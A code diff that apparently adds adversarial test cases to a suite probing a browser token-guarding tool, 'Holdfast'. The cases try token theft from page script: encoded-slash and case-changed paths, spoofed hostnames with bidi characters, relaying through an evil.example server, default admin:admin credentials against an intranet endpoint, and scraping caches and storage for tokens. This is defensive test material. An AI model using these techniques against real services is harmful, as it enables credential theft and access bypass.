@@ -1,14 +1,9 @@
-import { type Attack, type Known, request, speak } from './attack.ts';
+import { type Attack, form, type Known, request, speak } from './attack.ts';
 
 const json = (token: string, more: Record<string, string> = {}) => ({
   method: 'POST',
   headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json', ...more },
   body: '{"jsonrpc":"2.0","id":1,"method":"tools/list"}',
-});
-const form = (members: Record<string, string>) => ({
-  method: 'POST',
-  headers: { 'content-type': 'application/x-www-form-urlencoded' },
-  body: new URLSearchParams(members).toString(),
 });
 const prove = (url: string, token: string, method = 'POST') => ({ kind: 'prove', token, method, url });
 
@@ -21,6 +16,9 @@ const elsewhere = (name: string, url: (known: Known) => string): Attack => ({
   run: async (place, known) =>
     (await request(place, url(known), json(known.access))) + (await speak(place, [prove(url(known), known.access)])),
 });
+
+/** A report that the page has sent a handle to somebody. */
+const passedOn = (url: string, handles: readonly unknown[]) => ({ kind: 'passedOn', url, handles });
 
 /** What script in the protected page itself can try. */
 export const FROM_PAGE: readonly Attack[] = [
@@ -37,6 +35,144 @@ export const FROM_PAGE: readonly Attack[] = [
     ({ resource, evil }) => `${new URL(resource).origin}\\@${new URL(evil).host}/mcp`,
   ),
   elsewhere('the authorization server', ({ issuer }) => `${issuer}/token`),
+  elsewhere('a path with an encoded slash', ({ resource }) => `${resource}%2F..%2Fadmin`),
+  elsewhere('a path in other letters', ({ resource }) => resource.replace(/mcp$/, 'MCP')),
+  elsewhere('the resource’s host with a dot at its end', ({ resource }) => resource.replace(/:(\d+)\//, '.:$1/')),
+  elsewhere('another port of the resource’s host', ({ resource, evil }) =>
+    resource.replace(/:\d+/, `:${new URL(evil).port}`),
+  ),
+  {
+    name: 'reports of handles: to thousands of servers, in names that turn, of nobody, and of what is none',
+    hope: 'a full log, a host that reads as another, an error of Holdfast’s',
+    run: (place, { access, refresh, resource }) =>
+      speak(place, [
+        ...Array.from({ length: 2_000 }, (_, number) =>
+          passedOn(`https://h${number}.evil.example/`, [access, refresh]),
+        ),
+        passedOn('https://\u202eelpmaxe.ipa\u2066.example/', [access]),
+        passedOn(resource, [access.replace(/.$/, '~'), access.replace(/..$/, 'xx'), null]),
+        passedOn('javascript:0', Array(10_000).fill(access)),
+      ]),
+    got: /^(?!.*"kind":"(?!pass|unreachable))/s,
+  },
+  {
+    name: 'a sibling of the resource, without a handle',
+    hope: 'the token that stands at the resource',
+    run: (place, { resource, access }) =>
+      place.evaluate(
+        async ([url, token]) => {
+          const headers = { authorization: `Bearer ${token}`, 'content-type': 'application/json' };
+          await fetch(url, { method: 'POST', headers, body: '{}' }); // so that the token stands there
+          const siblings = ['~x', ':x', '@x', '+x', ',x', '/x', '-x', '.x', '%20x'].map((end) => url + end);
+          const streams = siblings.map(
+            (sibling) =>
+              new Promise((resolve) => {
+                const source = new EventSource(sibling);
+                source.onerror = () => resolve(source.close());
+              }),
+          );
+          await Promise.all([...streams, ...siblings.map((sibling) => fetch(sibling).catch(() => null))]);
+          return 'asked';
+        },
+        [resource, access] as const,
+      ),
+  },
+  {
+    name: 'a WebSocket and a beacon at the resource',
+    hope: 'the token on what is no fetch',
+    run: (place, { resource, access }) =>
+      place.evaluate(
+        async ([url, token]) => {
+          const headers = { authorization: `Bearer ${token}`, 'content-type': 'application/json' };
+          await fetch(url, { method: 'POST', headers, body: '{}' });
+          const socket = new WebSocket(url.replace('http', 'ws'));
+          await new Promise((resolve) => socket.addEventListener('error', resolve));
+          return String(navigator.sendBeacon(url, '{}'));
+        },
+        [resource, access] as const,
+      ),
+    got: /^true$/,
+  },
+  {
+    name: 'a server of its own that sends it on to the resource',
+    hope: 'the token, without asking for a proof',
+    run: (place, { evil, resource, access }) =>
+      place.evaluate(
+        async ([from, to, token]) => {
+          const headers = { authorization: `Bearer ${token}`, 'content-type': 'application/json' };
+          await fetch(to, { method: 'POST', headers, body: '{}' });
+          return fetch(`${from}/on?to=${encodeURIComponent(to)}`, { method: 'POST', body: '{}' }).then(
+            ({ status }) => String(status),
+            (error) => String(error),
+          );
+        },
+        [evil, resource, access] as const,
+      ),
+    got: /^401|TypeError/,
+  },
+  {
+    name: 'a client’s password for a host behind the firewall',
+    hope: 'to sign in there through Holdfast, past the preflight',
+    run: (place, { crossing, intranet }) => {
+      const given = form({ grant_type: 'authorization_code', code: 'x', resource: `${crossing}/named` });
+      const headers = { ...given.headers, authorization: `Basic ${btoa('admin:admin')}` };
+      return request(place, `${intranet}/token`, { ...given, headers });
+    },
+    got: /^TypeError/,
+  },
+  {
+    name: 'the refresh handle in a token exchange',
+    hope: 'the real refresh token, spent for another audience',
+    run: (place, { issuer, refresh, clientId }) =>
+      request(
+        place,
+        `${issuer}/token`,
+        form({
+          grant_type: 'urn:ietf:params:oauth:grant-type:token-exchange',
+          refresh_token: refresh,
+          subject_token: refresh,
+          audience: 'https://other.example',
+          client_id: clientId,
+        }),
+      ),
+    got: /^400.*unsupported_grant_type/s,
+  },
+  {
+    name: 'a token request for the authorization server’s own endpoint',
+    hope: 'a session whose proofs are for the token endpoint',
+    run: (place, { issuer, clientId }) =>
+      request(
+        place,
+        `${issuer}/token`,
+        form({ grant_type: 'authorization_code', code: 'x', client_id: clientId, resource: `${issuer}/token` }),
+      ),
+    got: /^400/,
+  },
+  {
+    name: 'what the browser remembers of the requests',
+    hope: 'the token in a timing entry, a worker or a cache',
+    run: (place) =>
+      place.evaluate(async () => {
+        const caches = await globalThis.caches?.keys().catch(() => []);
+        const entries = performance.getEntries().map((entry) => JSON.stringify(entry));
+        return [...entries, ...(caches ?? []), JSON.stringify(localStorage), JSON.stringify(sessionStorage)].join('\n');
+      }),
+    got: /hf_/, // the handles are there
+  },
+  {
+    name: 'proofs of nobody’s given back, and reports without end',
+    hope: 'another’s turn, or a list that fills the storage',
+    run: (place, { evil }) =>
+      speak(place, [
+        ...Array.from({ length: 100 }, (_, index) => ({ kind: 'dropped', jtis: [`guess-${index}`] })),
+        ...Array.from({ length: 200 }, (_, index) => ({
+          kind: 'exposed',
+          url: `${evil}/token`,
+          body: `grant_type=authorization_code&resource=${evil}/${index}`,
+        })),
+      ]),
+    got: /^(?!.*"kind":"(?!pass"))/s,
+  },
   {
     name: 'addresses that are no web addresses',
     hope: 'a proof for a scheme that nobody checks',
@@ -179,6 +315,7 @@ export const FROM_PAGE: readonly Attack[] = [
       );
     },
     got: /^(?!401)\d+ 401$/,
+    isOfProofs: true,
   },
   {
     name: 'a giant message',
@@ -227,6 +364,39 @@ export const FROM_PAGE: readonly Attack[] = [
         .evaluate(() => location.origin)
         .then((origin) => speak(place, [{ kind: 'revokeAll' }, { kind: 'unprotect', origin }], { name: 'ui' })),
     got: /^\[\]$/,
+  },
+  {
+    name: 'what the person says of keys, said by the page',
+    hope: 'a key of its own making, or the handle of one',
+    run: (place, { evil }) =>
+      place
+        .evaluate(() => location.origin)
+        .then(async (agent) => {
+          const key = {
+            agent,
+            server: `${evil}/mcp`,
+            header: 'authorization',
+            scheme: 'Bearer',
+            name: '',
+            secret: 'x',
+          };
+          const said = [
+            { kind: 'keep', ...key },
+            { kind: 'showHandle', session: 'x' },
+          ];
+          return (await speak(place, said)) + (await speak(place, said, { name: 'ui' }));
+        }),
+    got: /^(?!.*(?:hfk_|"ok"))/,
+  },
+  {
+    name: 'the session’s handle in other fields',
+    hope: 'its token there, or one of a key that a person gave',
+    run: async (place, { resource, access }) => {
+      const asked = ['x-api-key', 'cookie', 'host'].map((header) => ({ ...prove(resource, access), header }));
+      const heard = await speak(place, [prove(resource, `hfk_${'x'.repeat(43)}`), ...asked]);
+      return heard + (await request(place, resource, { method: 'POST', headers: { 'x-api-key': access }, body: '{}' }));
+    },
+    got: NO_PROOF,
   },
   {
     name: 'a flood of ports',
